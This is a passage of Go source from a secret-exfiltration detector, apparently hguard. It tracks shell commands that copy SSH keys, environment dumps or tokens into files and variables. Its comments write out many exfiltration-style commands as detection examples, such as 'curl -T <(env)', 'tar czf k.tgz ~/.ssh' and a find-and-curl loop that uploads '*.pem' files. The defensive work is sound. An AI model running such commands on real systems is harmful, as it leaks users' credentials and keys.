package dsl

import (
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
	"unicode"

	"github.com/hguard/hguard/dsl/cmdline"
)

// Secrets held under another name. A command that reads a key, prints the
// environment or packs ~/.ssh and writes the result to a file leaves the
// secret in a file whose name says nothing (cp ~/.ssh/id_rsa k.txt,
// env > e.txt, tar czf k.tgz ~/.ssh); a variable set from one holds it
// too (K=$(cat ~/.ssh/id_rsa)). Sending that file or variable on is
// sending the secret: the rules ask holdsSecret(path) and
// secretValue(text) beside sensitivePath.

// heldSecrets is what the commands of one line filled with a secret, each
// with the index of the command that did, built once per line when a rule
// first asks (Context.held).
type heldSecrets struct {
	built bool
	files []heldFile
	vars  []heldVar
	// sets are every assignment of the line, held or not, in order, for
	// tokenSource.
	sets []setVar
	// procs and substs are the sources of the commands in a <(…) and in a
	// $(…) of the line whose output carries a secret: a word holding one
	// holds the secret (curl -T <(env), ssh h "echo $(env | base64)").
	procs, substs []string
	// at is each command's index on the line.
	at map[*cmdline.Command]int
	// fns are the functions whose body carries a secret, each with the
	// index of the first command of its body that does.
	fns map[string]int
	// whole says, by index, a command's output is the whole environment
	// (env, echo "$(env)", cat e.txt after env > e.txt, env | sort).
	whole []bool
	// line is the line being walked, for the find whose files a {} stands for.
	line *cmdline.Line
}

// callsCarrier reports a command at index i that calls a function whose
// body, met before it, carries a secret.
func (h *heldSecrets) callsCarrier(u *cmdline.Command, i int) bool {
	j, ok := h.fns[u.Name]
	return ok && j < i && u.Func != u.Name
}

// heldFile is a file a command of the line filled with a secret.
type heldFile struct {
	path string // cleaned, resolved against the command's directory when known
	// bases are the names of the secret files written into it, for a
	// destination that is a directory (cp ~/.ssh/id_rsa out/ holds
	// out/id_rsa); whole says every file under it holds one (cp -r ~/.ssh out).
	bases []string
	whole bool
	// dir says the destination was written as a directory (out/), so a
	// session remembers the secrets' names under it.
	dir bool
	// into says the destination is a copier's last operand, which may be
	// a directory already (cp ~/.ssh/id_rsa docs): the secret's name under
	// it is held too, and the caller, which can look, drops the one that
	// is not the copy.
	into bool
	// environment says the file holds the whole environment (env > e.txt,
	// echo "$(env)" > e.txt, cat e.txt > f): encoding it encodes every
	// secret in it (environmentInput).
	environment bool
	by          int
}

// heldVar is a variable an assignment of the line set from a secret.
type heldVar struct {
	name string
	by   int
	// environment says the value is the whole environment (E=$(env)).
	environment bool
}

// setVar is a variable an assignment of the line set: value is the text
// assigned as written (T=$(gh auth token) sets "$(gh auth token)"), and
// unknown says the line does not show it (read T, for T in …).
type setVar struct {
	name, value string
	unknown     bool
	by          int
}

// build walks the line once, in order, so that a copy of a copy
// (cp k.txt k2.txt), a variable read from a copy and a pipe carrying a
// secret into a file (cat key | base64 > k.b64) count.
func (h *heldSecrets) build(line *cmdline.Line, ctx Context) {
	h.built = true
	h.line = line
	ctx.held = h // the environments built below ask what is held before them here, not anew
	h.at = make(map[*cmdline.Command]int, len(line.Commands))
	carries := make([]bool, len(line.Commands)) // the command's output holds a secret
	whole := make([]bool, len(line.Commands))
	h.whole = whole
	lastAt := map[[2]int]int{} // the latest command at a pipeline position
	loops := line.Loops
	for i, u := range line.Commands {
		h.at[u] = i
		for len(loops) > 0 && loops[0].At <= i {
			// for K in $(cat key): K holds what the words hold
			if l := loops[0]; h.copies(l.Words, i) {
				h.vars = append(h.vars, heldVar{name: l.Name, by: i - 1})
			}
			h.sets = append(h.sets, setVar{name: loops[0].Name, unknown: true, by: i - 1})
			loops = loops[1:]
		}
		ue := newCommandEnv(u, line, ctx)
		h.noteSets(u, ue, i)
		secrets, dirs := h.commandSecrets(u, ue, i, ctx)
		whole[i] = printsEnvironment(u) || h.echoesEnvironment(u, line, i) || passesWhole[u.Name] && h.readsEnvironment(u, ue, i)
		switch {
		case u.Stdin.Kind != "pipe":
		case u.Pipe.Index > 0:
			if j, ok := lastAt[[2]int{u.Pipe.Len, u.Pipe.Index - 1}]; ok && carries[j] && line.Commands[j].Name == u.Stdin.From {
				secrets = append(secrets, line.Commands[j].Source)
				whole[i] = whole[i] || whole[j] && passesWhole[u.Name] // env | sort > e.txt
			}
		default:
			// a command inside a compound a pipe feeds (cat key | while
			// read K; do …): the latest command of that name before it
			for j := i - 1; j >= 0; j-- {
				if line.Commands[j].Name == u.Stdin.From && line.Commands[j].Pipe.Len > 1 {
					if carries[j] {
						secrets = append(secrets, line.Commands[j].Source)
						whole[i] = whole[i] || whole[j] && passesWhole[u.Name] // printenv | parallel --pipe base64
					}
					break
				}
			}
		}
		if j := writerParent(line, i); j >= 0 && carries[j] {
			secrets = append(secrets, line.Commands[j].Source) // sed -n 'w k.txt' key, python's open("k.txt","w")
		}
		if h.callsCarrier(u, i) {
			secrets = append(secrets, u.Source) // f(){ cat key; }; f > k.txt: the function prints the key
		}
		lastAt[[2]int{u.Pipe.Len, u.Pipe.Index}] = i
		carries[i] = len(secrets) > 0 || dirs || whole[i]
		if _, ok := h.fns[u.Func]; carries[i] && u.Func != "" && !ok {
			if h.fns == nil {
				h.fns = map[string]int{}
			}
			h.fns[u.Func] = i
		}
		if carries[i] && len(u.Via) > 0 {
			switch u.Via[len(u.Via)-1] {
			case "<(…)":
				h.procs = append(h.procs, u.Source)
			case "$(…)", "`…`":
				h.substs = append(h.substs, u.Source)
			}
		}
		if len(u.Assigns) > 0 && (u.Name == "" || u.Name == ":") && h.assignedSecret(u, line, i, ctx) {
			whole := len(substitutesEnvironment(u, line, i)) > 0
			for _, a := range u.Assigns {
				h.vars = append(h.vars, heldVar{name: a.Name, by: i, environment: whole})
			}
			continue
		}
		if declarers[u.Name] && slices.ContainsFunc(ue.Args, func(a string) bool { return strings.Contains(a, "=") }) {
			// export K=$(cat key), declare -r K=$K2, local K=…; without an
			// assignment (export -p > f) it prints the environment, below
			for _, a := range ue.Args {
				if name, value, ok := strings.Cut(a, "="); ok && name != "" && !strings.HasPrefix(name, "-") &&
					(h.expands(value, i) || ctx.Shell != "fish" && h.copies(value, i) || h.substitutionsCarry(u, line, i, ctx)) {
					h.vars = append(h.vars, heldVar{name: name, by: i})
				}
			}
			continue
		}
		if u.Name == "exec" {
			// exec 3< key: /dev/fd/3 is the key for the commands after
			for _, r := range ue.Redirects {
				if r.Op == "<" && r.Fd != "" && r.Fd != "0" && (sensitivePath(r.Target) || h.names(r.Target, ue.Cwd, i, ctx)) {
					h.files = append(h.files, heldFile{path: "/dev/fd/" + r.Fd, by: i})
				}
			}
		}
		if !carries[i] && (u.Stdin.Kind == "procsub" || u.Stdin.Kind == "herestring" || u.Stdin.Kind == "heredoc") && h.substitutionsCarry(u, line, i, ctx) {
			// read -r T < <(gh auth token), read -r T <<< "$(gh auth token)":
			// the input is what the substitution prints
			carries[i] = true
		}
		if !carries[i] {
			continue
		}
		for _, v := range readInto(u, ue) {
			h.vars = append(h.vars, heldVar{name: v, by: i}) // read K < key, mapfile -t A < key, printf -v K %s "$S"
		}
		var bases []string
		for _, s := range secrets {
			if !strings.ContainsAny(s, " \t\n") { // a file, not "the environment of env > e.txt"
				bases = append(bases, path.Base(s))
			}
		}
		for _, o := range filledFiles(u, ue) {
			if o == "" || o == "-" || strings.HasPrefix(o, "/dev/") && !sharedDir(o) { // /dev/shm is a directory like /tmp
				continue
			}
			h.files = append(h.files, heldFile{path: resolveIn(o, ue.Cwd), bases: bases, whole: dirs, dir: strings.HasSuffix(o, "/") || isTargetDir(u, ue), into: copiers.has(programName(u.Name)), environment: whole[i], by: i})
		}
	}
}

// noteSets records the variables command u (at index i) sets: its
// assignments when it runs nothing else (T=$(gh auth token)), a
// declarer's NAME=VALUE words (export T=…), one variable read from a
// here-string or a process substitution, and the other variables read,
// mapfile and printf -v fill, whose values the line does not show.
func (h *heldSecrets) noteSets(u *cmdline.Command, ue *CommandEnv, i int) {
	if u.Name == "" || u.Name == ":" {
		for _, a := range u.Assigns {
			h.sets = append(h.sets, setVar{name: a.Name, value: a.Value.Value, by: i})
		}
		return
	}
	if declarers[u.Name] {
		for _, a := range ue.Args {
			if name, value, ok := strings.Cut(a, "="); ok && name != "" && !strings.HasPrefix(name, "-") {
				h.sets = append(h.sets, setVar{name: name, value: value, by: i})
			}
		}
		return
	}
	names := readInto(u, ue)
	if len(names) == 1 && u.Name == "read" {
		// read T <<< "$(gh auth token)" and read T < <(gh auth token)
		// set T to what the substitution prints
		for _, r := range ue.Redirects {
			switch {
			case r.Op == "<<<":
				h.sets = append(h.sets, setVar{name: names[0], value: r.Target, by: i})
				return
			case r.Op == "<" && strings.HasPrefix(r.Target, "<(") && strings.HasSuffix(r.Target, ")"):
				h.sets = append(h.sets, setVar{name: names[0], value: "$" + r.Target[1:], by: i})
				return
			}
		}
	}
	for _, v := range names {
		h.sets = append(h.sets, setVar{name: v, unknown: true, by: i})
	}
}

// tokenSource is text with each $NAME or ${NAME} the commands before
// index i set written as the credential helpers it was set from, so that
// tokenForHost judges a token by where it came from
// (T=$(gh auth token); "token $T" is "token $(gh auth token)"): every
// value the line gave NAME, joined, where each is one tokenForHost knows
// the service of and that service's own token (ownToken); a value it
// does not know (K=$(cat k.txt), read K, a secret store's read) leaves
// NAME itself, judged by its name as before. depth bounds the
// values that name other variables (T2=$T).
func (h *heldSecrets) tokenSource(text string, i, depth int) string {
	if depth > 4 || !strings.Contains(text, "$") {
		return text
	}
	var b strings.Builder
	for k := 0; k < len(text); k++ {
		if text[k] != '$' {
			b.WriteByte(text[k])
			continue
		}
		start, braced := k+1, false
		if start < len(text) && text[start] == '{' {
			start, braced = start+1, true
		}
		end := start
		for end < len(text) && isNameByte(text[end]) {
			end++
		}
		if end == start || braced && (end >= len(text) || text[end] != '}') {
			b.WriteByte('$') // $(…), ${X:-y}, $1…: as written
			continue
		}
		name, next := text[start:end], end
		if braced {
			next++
		}
		var values []string
		for _, v := range h.sets {
			if v.by >= i {
				break
			}
			if v.name != name {
				continue
			}
			value := "${" + name + "}"
			if !v.unknown {
				if r := h.tokenSource(v.value, v.by, depth+1); ownToken(r) {
					value = r
				}
			}
			if !slices.Contains(values, value) {
				values = append(values, value)
			}
		}
		if len(values) == 0 {
			b.WriteString(text[k:next])
		} else {
			b.WriteString(strings.Join(values, " "))
		}
		k = next - 1
	}
	return b.String()
}

// writerParent is, for the tee that stands for a file a program's own
// code writes (sed's w, an interpreter's open for writing), the index of
// that program's command; -1 for any other command. What the program
// read may be in the file.
func writerParent(line *cmdline.Line, i int) int {
	u := line.Commands[i]
	if u.Name != "tee" || len(u.Via) == 0 || u.Stdin.Kind == "pipe" {
		return -1
	}
	for j := i - 1; j >= 0; j-- {
		if p := line.Commands[j]; len(p.Via) < len(u.Via) {
			if slices.Equal(p.Via, u.Via[:len(p.Via)]) && strings.HasPrefix(u.Via[len(u.Via)-1], programName(p.Name)) {
				return j
			}
			return -1
		}
	}
	return -1
}

// assignedSecret reports an assignment (K=$(cat key), K2=$K) whose value
// expands a held variable or whose substitutions, listed after it with a
// deeper via, read a secret.
func (h *heldSecrets) assignedSecret(u *cmdline.Command, line *cmdline.Line, i int, ctx Context) bool {
	for _, a := range u.Assigns {
		if h.copies(a.Value.Value, i) {
			return true
		}
	}
	return h.substitutionsCarry(u, line, i, ctx)
}

// copies reports a value that holds a secret: a variable held before
// index i (expands), or one expansion of a variable named as a secret
// (x=$GITHUB_TOKEN, whose copy sends it as "${x:-}" would). A text
// around it (a URL, a header) is judged where it is used, with the host
// it goes to.
func (h *heldSecrets) copies(text string, i int) bool {
	if h.expands(text, i) {
		return true
	}
	t := strings.Trim(text, `"`)
	m := secretVar().FindStringIndex(t)
	if m == nil || m[0] != 0 {
		return false
	}
	if m[1] == len(t) || t[m[1]:] == "}" {
		return true // $T, ${T}
	}
	// ${T:-}, ${T%x}: one operation that keeps some of it (not ${T:+x})
	return t[1] == '{' && cmdline.DerivedParam(t) && !strings.ContainsAny(t[m[1]:len(t)-1], "${`")
}

// substitutionsCarry reports that the substitutions of command u (at
// index i), listed after it with a deeper via, read a secret.
func (h *heldSecrets) substitutionsCarry(u *cmdline.Command, line *cmdline.Line, i int, ctx Context) bool {
	for j := i + 1; j < len(line.Commands); j++ {
		s := line.Commands[j]
		if len(s.Via) <= len(u.Via) || !slices.Equal(s.Via[:len(u.Via)], u.Via) {
			break
		}
		if secrets, dirs := h.commandSecrets(s, newCommandEnv(s, line, ctx), i, ctx); len(secrets) > 0 || dirs {
			return true
		}
	}
	return false
}

// declarers are the builtins that set the variables their NAME=VALUE
// arguments name.
var declarers = map[string]bool{"export": true, "declare": true, "typeset": true, "local": true, "readonly": true}

// commandSecrets are the secrets a command's output carries, given what
// the commands before index i held: the secret files it reads, held
// files it reads, a stored secret it prints, the environment, a held or
// secret variable it echoes; dirs says it packs or copies a whole
// directory of keys or a home.
func (h *heldSecrets) commandSecrets(u *cmdline.Command, ue *CommandEnv, i int, ctx Context) (secrets []string, dirs bool) {
	secrets = h.secretsRead(u, ue, i, ctx)
	if a := archivedSecrets(u, ue.Args, ue.Positional, ue.Cwd); len(a) > 0 || packsKeyDir(ue.Code) {
		dirs = true
	}
	secrets = append(secrets, packedSecrets(u, ue.Args, ue.Positional, ue.Cwd, ctx)...) // tar cf p.tar . where .env lies
	if name := programName(u.Name); (name == "cp" || name == "rsync") && hasFlag(ue.Args, []string{"r", "R", "a", "recursive", "archive"}) {
		for _, p := range ue.Positional[:max(len(ue.Positional)-1, 0)] {
			if c := homeForm(resolveIn(p, ue.Cwd)); c == "~" || secretDir(c) || h.names(p, ue.Cwd, i, ctx) {
				dirs = true // cp -r . ../backup after env > e.txt: the copy holds it somewhere under it
			}
		}
	}
	if (u.Name == "echo" || u.Name == "printf") && slices.ContainsFunc(ue.Args, func(a string) bool { return h.expands(a, i) || secretVar().MatchString(a) }) {
		secrets = append(secrets, u.Source)
	}
	if searchesSecrets(u) {
		// find ~ -name '*.pem' | while read f; do curl -F "f=@$f" …: what
		// the search prints names the secret files, and a loop sends them
		secrets = append(secrets, "the secret files found by "+u.Source)
	}
	if k := u.Container; k != nil && len(containerSecrets(k, ue.Cwd, func(p string) bool { return h.names(p, ue.Cwd, i, ctx) })) > 0 {
		// docker run -v ~/.ssh:/k alpine tar c /k > k.tar: what a container
		// given this machine's secrets prints may be them
		secrets = append(secrets, "the output of a container given secrets: "+u.Source)
	}
	return secrets, dirs
}

// packsKeyDir reports inline code that packs with Python's archive
// modules and names a key directory or a home: tarfile's
// t.add('/home/u/.ssh') takes in every key under it, into the file
// tarfile.open(…, "w") writes (shutil's make_archive and copytree are
// commands of their own: zip, tar, cp -r).
func packsKeyDir(code string) bool {
	if code == "" || !codePacker().MatchString(code) {
		return false
	}
	return slices.ContainsFunc(codeLiterals(code), func(lit string) bool {
		c := homeForm(cleanPath(lit))
		return (strings.HasPrefix(c, "/") || strings.HasPrefix(c, "~")) && (isHome(c) || secretDir(c))
	})
}

// codePacker matches Python's archive modules in inline code.
var codePacker = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\b(tarfile|zipfile)\b`)
})

// secretsRead are the secrets a command reads, whatever it does with
// them, given what the commands before index i held: the secret files it
// names (or a secret printer prints), held files among its operands and
// input redirects, a stored
// secret it prints, the environment. commandSecrets and pipedSecrets
// both start from it.
func (h *heldSecrets) secretsRead(u *cmdline.Command, ue *CommandEnv, i int, ctx Context) []string {
	secrets := slices.Clone(ue.SecretFiles)
	secrets = append(secrets, printedSecrets(u.Name, ue.Args)...) // age -r KEY ~/.ssh/id_rsa
	for _, p := range ue.Positional {
		if dirWord(p) && !dirPackers[programName(u.Name)] {
			continue // go build -o app . reads its sources, not a held file beside them
		}
		if h.names(p, ue.Cwd, i, ctx) {
			secrets = append(secrets, p) // cp ~/.ssh/id_rsa k; cat k
		}
		if rev, file, ok := strings.Cut(p, ":"); ok && programName(u.Name) == "git" && rev != "" && !strings.Contains(file, "//") && h.names(file, ue.Cwd, i, ctx) {
			secrets = append(secrets, p) // git show HEAD:e.txt after a commit of it
		}
	}
	for _, a := range ue.Args {
		// dd if=k of=x, and the like: an input file given as KEY=FILE
		if key, file, ok := strings.Cut(a, "="); ok && (key == "if" || key == "--if" || key == "--input" || key == "--infile") && h.names(file, ue.Cwd, i, ctx) {
			secrets = append(secrets, file)
		}
	}
	for _, r := range ue.Redirects {
		if r.Op == "<" && h.names(r.Target, ue.Cwd, i, ctx) {
			secrets = append(secrets, r.Target)
		}
	}
	if revealsSecret(u.Name, ue.Args) {
		secrets = append(secrets, u.Source) // a secrets service's value (vault kv get x)
	}
	if printsEnvironment(u) {
		secrets = append(secrets, "the environment of "+u.Source) // env, export -p, dict(os.environ)
	}
	if capturesScreen(u) {
		secrets = append(secrets, "the screen captured by "+u.Source) // scrot s.png, grim - | …
	}
	return secrets
}

// findsHeld reports that the {} of command u (at index i) stands for a
// file find (find … -exec u, find … | xargs -I{} u) may find among those
// the line or the session filled with a secret: one under a starting
// point whose name matches the -name patterns, if any. A search with a
// test it cannot read (-regex) finds every file under its starting points.
// cwd is where u runs, which is where find runs.
func (h *heldSecrets) findsHeld(u *cmdline.Command, cwd string, i int, ctx Context) bool {
	f := h.finder(u, i)
	if f == nil {
		return false
	}
	if searchesSecrets(f) {
		return true // find ~ -name '*.pem' -exec curl -F f=@{} URL \;
	}
	var starts, names []string
	opaque := false
	args := wordValues(f.Args)
	for k := 0; k < len(args); k++ {
		a := args[k]
		switch {
		case a == "-exec" || a == "-execdir" || a == "-ok" || a == "-okdir":
			k = len(args) // the command and what follows are not tests
		case a == "-name" && k+1 < len(args):
			names = append(names, args[k+1])
			k++
		case a == "-iname" && k+1 < len(args):
			names = append(names, foldGlob(args[k+1]))
			k++
		case (a == "-path" || a == "-ipath" || a == "-wholename" || a == "-iwholename" || a == "-regex" || a == "-iregex") && k+1 < len(args):
			opaque = true
			k++
		case len(names) == 0 && !opaque && !strings.HasPrefix(a, "-") && a != "(" && a != "!" && len(starts) == k:
			starts = append(starts, a)
		}
	}
	if len(starts) == 0 {
		starts = []string{"."}
	}
	if opaque || len(names) == 0 {
		return slices.ContainsFunc(starts, func(s string) bool { return h.names(s, cwd, i, ctx) })
	}
	for _, s := range starts {
		dir := resolveIn(s, cwd)
		for _, file := range h.files {
			if file.by >= i {
				break
			}
			base := path.Base(file.path)
			if within(file.path, dir) && slices.ContainsFunc(names, func(n string) bool {
				ok, _ := path.Match(n, base)
				return ok
			}) {
				return true
			}
		}
		if ctx.SecretFile == nil || !strings.HasPrefix(dir, "/") && !strings.HasPrefix(dir, "~") {
			continue
		}
		for _, n := range names {
			// the session's files: a few levels deep is where a dump lands
			for _, mid := range []string{"/", "/*/", "/*/*/", "/*/*/*/"} {
				if ctx.SecretFile(strings.TrimSuffix(dir, "/") + mid + n) {
					return true
				}
			}
		}
	}
	return false
}

// searchesSecrets reports a file search (find, fd, locate) whose
// patterns name secret files (secretSearch): the files it finds, and so
// the names it prints, are secrets'. Listing programs that only echo
// their words (ls, echo) are left to the paths they name.
func searchesSecrets(u *cmdline.Command) bool {
	switch prog := programName(u.Name); prog {
	case "find", "gfind", "bfs", "fd", "fdfind", "locate", "plocate", "mlocate", "slocate":
		return secretSearch(prog, wordValues(u.Args)) != ""
	}
	return false
}

// foldGlob is a glob that matches what pattern matches in any case
// (find -iname E.* is [eE].*); letters inside a class stay as written.
func foldGlob(pattern string) string {
	var b strings.Builder
	class := false
	for _, r := range pattern {
		switch {
		case r == '[':
			class = true
		case r == ']':
			class = false
		case !class && unicode.ToLower(r) != unicode.ToUpper(r):
			b.WriteString("[" + string(unicode.ToLower(r)) + string(unicode.ToUpper(r)) + "]")
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// finder is the find whose files command u's {} stands for: the find
// that runs u (-exec), or the one piped into xargs -I{} u.
func (h *heldSecrets) finder(u *cmdline.Command, i int) *cmdline.Command {
	if h.line == nil {
		return nil
	}
	for _, w := range u.Wrappers {
		switch w.Name {
		case "find":
			for j := i - 1; j >= 0; j-- {
				if c := h.line.Commands[j]; programName(c.Name) == "find" && c.Pos == u.Pos {
					return c
				}
			}
		case "xargs":
			if u.Stdin.Kind != "pipe" || programName(u.Stdin.From) != "find" {
				return nil
			}
			for j := i - 1; j >= 0; j-- {
				if c := h.line.Commands[j]; c.Pipe.Len == u.Pipe.Len && c.Pipe.Index == u.Pipe.Index-1 && c.Name == u.Stdin.From {
					return c
				}
			}
		}
	}
	return nil
}

// curlGlob is what a curl argument with curl's own globbing stands for:
// each alternative of {a,b}, a [1-9] range as any name; nil without one.
func curlGlob(p string) []string {
	open, end := strings.IndexByte(p, '{'), strings.IndexByte(p, '}')
	if open < 0 || end < open {
		if strings.ContainsAny(p, "[]") {
			return []string{p} // a pattern: the session's held files match it
		}
		return nil
	}
	var out []string
	for _, alt := range strings.Split(p[open+1:end], ",") {
		q := p[:open] + alt + p[end+1:]
		if more := curlGlob(q); more != nil {
			out = append(out, more...)
		} else {
			out = append(out, q)
		}
	}
	return out
}

// dirWord reports a word that names a directory as such (., .., ./, x/).
func dirWord(p string) bool {
	return p == "." || p == ".." || strings.HasSuffix(p, "/")
}

// dirPackers are the programs that take in every file of a directory they
// are given, a held file with them: archivers, copiers, syncs, git.
var dirPackers = map[string]bool{"tar": true, "gtar": true, "bsdtar": true, "zip": true, "7z": true, "7za": true, "rar": true,
	"cpio": true, "pax": true, "rsync": true, "cp": true, "mv": true, "scp": true, "rclone": true, "rcp": true, "git": true,
	"gsutil": true, "aws": true, "azcopy": true, "s3cmd": true, "mc": true, "restic": true, "borg": true, "duplicity": true,
	"croc": true, "magic-wormhole": true, "wormhole": true, "ffsend": true, "sftp": true, "lftp": true, "gh": true}

// readInto are the variables a builtin sets from its input or arguments:
// read's names (REPLY without one), mapfile's and readarray's array
// (MAPFILE), printf -v's.
func readInto(u *cmdline.Command, ue *CommandEnv) []string {
	switch u.Name {
	case "read":
		var names []string
		for i := 0; i < len(ue.Args); i++ {
			a := ue.Args[i]
			switch {
			case a == "-a" || a == "-p" || a == "-d" || a == "-n" || a == "-N" || a == "-t" || a == "-u" || a == "-i":
				if a == "-a" && i+1 < len(ue.Args) {
					names = append(names, ue.Args[i+1])
				}
				i++
			case strings.HasPrefix(a, "-"):
			default:
				names = append(names, a)
			}
		}
		if len(names) == 0 {
			names = []string{"REPLY"}
		}
		return names
	case "mapfile", "readarray":
		if p := ue.Positional; len(p) > 0 && !strings.HasPrefix(p[len(p)-1], "-") {
			return []string{p[len(p)-1]}
		}
		return []string{"MAPFILE"}
	case "printf":
		if v := optionValues(ue.Args, []string{"v"}, true); len(v) > 0 {
			return v[:1]
		}
	}
	return nil
}

// filledFiles are the files a command writes its result to: its outputs,
// an archive it creates, and an -o/--output/-out option's value
// (openssl enc -out, gpg -o, base64 -o).
func filledFiles(u *cmdline.Command, ue *CommandEnv) []string {
	out := slices.Clone(ue.Outputs)
	if copiers.has(programName(u.Name)) {
		// a copy into a directory is the directory's here (heldFile.dir),
		// not the file placedFiles names in it
		placed := joinMoved(ue.Moved, placedFiles(programName(u.Name), ue.Args, ue.Positional))
		out = slices.DeleteFunc(out, func(o string) bool { return slices.Contains(placed, o) })
	}
	// the known files of a directory copied (treeWrites) stand for the
	// subtree, which its root's held pattern covers
	tree := treeWrites(treeRoots(programName(u.Name), ue.Args, ue.Positional))
	out = slices.DeleteFunc(out, func(o string) bool { return slices.Contains(tree, o) })
	if capturesScreen(u) {
		out = append(out, screenFiles(u, ue)...)
	}
	switch programName(u.Name) {
	case "tar", "bsdtar", "gtar":
		out = append(out, optionValues(ue.Args, []string{"f", "file"}, false)...)
		if len(ue.Positional) > 1 && bundled(ue.Positional[0]) && strings.ContainsRune(ue.Positional[0], 'f') && !strings.HasPrefix(ue.Positional[0], "-") {
			out = append(out, ue.Positional[1]) // tar czf k.tgz ~/.ssh
		}
	case "zip":
		if len(ue.Positional) > 0 {
			out = append(out, ue.Positional[0])
		}
	case "7z", "7za", "7zr", "rar":
		if len(ue.Positional) > 1 && (ue.Positional[0] == "a" || ue.Positional[0] == "u") { // 7z a ARCHIVE FILES…; 7z e and x read it
			out = append(out, ue.Positional[1])
		}
	case "gzip", "pigz", "bzip2", "pbzip2", "xz", "lzma", "zstd", "lz4", "brotli", "compress", "gpg", "gpg2":
		// gzip e.txt writes e.txt.gz beside it; gpg -c e.txt e.txt.gpg
		if !hasFlag(ue.Args, []string{"stdout", "to-stdout", "d", "decompress", "decrypt", "t", "test", "l", "list", "o", "output"}) &&
			(strings.HasPrefix(programName(u.Name), "gpg") || !hasFlag(ue.Args, []string{"c"})) { // gpg's -c encrypts, gzip's writes out
			for _, p := range inPlaceOperands(u.Name, ue) {
				out = append(out, p+inPlaceSuffix[programName(u.Name)])
			}
		}
	case "docker", "podman", "nerdctl", "kubectl", "oc":
		if containerCopySource(programName(u.Name), ue.Positional) != "" && ue.Positional[2] != "-" {
			out = append(out, ue.Positional[2]) // docker cp dev:/root/.ssh k: k holds the keys
		}
	case "split":
		// split -b100 key p_ writes p_aa, p_ab, …: held by their prefix
		prefix := "x"
		if len(ue.Positional) > 1 {
			prefix = ue.Positional[len(ue.Positional)-1]
		}
		out = append(out, prefix+"*")
	case "csplit":
		// csplit - 5 writes xx00, xx01 (or PREFIX00 with -f): its operands
		// after the input are patterns, not files
		out = slices.DeleteFunc(out, func(o string) bool { return slices.Contains(ue.Positional, o) })
		prefix := "xx"
		if f := optionValues(ue.Args, []string{"f", "prefix"}, false); len(f) > 0 {
			prefix = f[len(f)-1]
		}
		out = append(out, prefix+"*")
	case "uniq":
		if len(ue.Positional) > 1 {
			out = append(out, ue.Positional[1]) // uniq INPUT OUTPUT
		}
	case "script":
		// script -qc CMD FILE keeps what CMD prints in FILE (typescript)
		if len(ue.Positional) > 0 {
			out = append(out, ue.Positional[len(ue.Positional)-1])
		} else {
			out = append(out, "typescript")
		}
	}
	if cr, ok := createdArchive(programName(u.Name), ue.Args); ok && cr.archive != "" && cr.archive != "-" {
		out = append(out, cr.archive) // jar cf k.jar ~/.ssh, python3 -m zipfile -c k.zip ~/.ssh
	}
	if ue.Lang == "awk" {
		// awk '{print > "f"}': the file its print writes
		for _, m := range awkPrintFile().FindAllStringSubmatch(ue.Code, 8) {
			out = append(out, m[1])
		}
	}
	if o := optionValues(ue.Args, []string{"out", "output"}, false); len(o) > 0 {
		return append(out, o...) // openssl's -out, which -o would read as -o ut
	}
	return append(out, optionValues(ue.Args, []string{"o"}, false)...)
}

// inPlaceSuffix is what a compressor or gpg adds to the name of the file
// it writes beside each operand.
var inPlaceSuffix = map[string]string{
	"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "pbzip2": ".bz2", "xz": ".xz", "lzma": ".lzma", "zstd": ".zst",
	"lz4": ".lz4", "brotli": ".br", "compress": ".Z", "gpg": ".gpg", "gpg2": ".gpg",
}

// isTargetDir reports a copier's destination given by -t (cp -t DIR
// files…): a directory.
func isTargetDir(u *cmdline.Command, ue *CommandEnv) bool {
	return len(optionValues(ue.Args, []string{"t", "target-directory"}, false)) > 0
}

// inPlaceOperands are the files a compressor or gpg writes a new file
// beside: its operands, gpg's option values left out.
func inPlaceOperands(name string, ue *CommandEnv) []string {
	if !strings.HasPrefix(programName(name), "gpg") {
		return ue.Positional
	}
	var out []string
	for i := 0; i < len(ue.Args); i++ {
		a := ue.Args[i]
		switch {
		case gpgValues[a]:
			i++
		case strings.HasPrefix(a, "-"):
		default:
			out = append(out, a)
		}
	}
	return out
}

// gpgValues are gpg's options that take the next word as their value.
var gpgValues = map[string]bool{
	"-r": true, "--recipient": true, "-R": true, "--hidden-recipient": true, "-u": true, "--local-user": true,
	"--homedir": true, "--passphrase": true, "--passphrase-file": true, "--default-key": true, "-z": true,
	"--cipher-algo": true, "--compress-algo": true, "--trust-model": true, "--keyring": true,
}

// resolveIn is p cleaned, joined to dir when it is relative and dir known.
func resolveIn(p, dir string) string {
	if dir != "" && p != "" && !strings.HasPrefix(p, "/") && !strings.HasPrefix(p, "~") && !strings.HasPrefix(p, "$") {
		p = dir + "/" + p
	}
	return cleanPath(p)
}

// names reports a word, resolved against dir, that names a file the
// commands before index i filled with a secret, or (for an agent) a file
// the session wrote that holds one (Context.SecretFile).
func (h *heldSecrets) names(word, dir string, i int, ctx Context) bool {
	if word == "" || strings.HasPrefix(word, "-") || strings.Contains(word, "://") {
		return false
	}
	p := resolveIn(word, dir)
	if p != cleanPath(word) && sensitivePath(p) {
		return true // cd ~/.aws && curl -T credentials: the secret where the command runs
	}
	if strings.Contains(word, "<(") && slices.ContainsFunc(h.procs, func(src string) bool { return holdsCommand(word, src) }) {
		return true // curl -T <(env), curl -d @<(tar c ~/.ssh)
	}
	if h.holds(p, i) || ctx.SecretFile != nil && (strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~")) && ctx.SecretFile(p) {
		return true
	}
	if h.line == nil || i < 0 || i >= len(h.line.Commands) {
		return false
	}
	u := h.line.Commands[i]
	if strings.Contains(word, "{}") {
		return h.findsHeld(u, dir, i, ctx) // find . -name e.txt -exec curl -T {} URL \;
	}
	if name := programName(u.Name); name == "curl" || name == "curlie" {
		// curl -T '{e.txt,x}': curl's own globbing
		return slices.ContainsFunc(curlGlob(word), func(q string) bool { return q != word && h.names(q, dir, i, ctx) })
	}
	return false
}

// holds reports a resolved path a command before index i filled with a
// secret: the file itself, a file written into a directory under a
// secret's own name, or any file under a directory a whole key directory
// went to.
func (h *heldSecrets) holds(p string, i int) bool {
	for _, f := range h.files {
		if f.by >= i {
			break
		}
		if p == f.path || strings.HasPrefix(f.path, strings.TrimSuffix(p, "/")+"/") {
			return true // the file, or a directory holding it (tar cz . | ssh h, rsync -a ./ h:)
		}
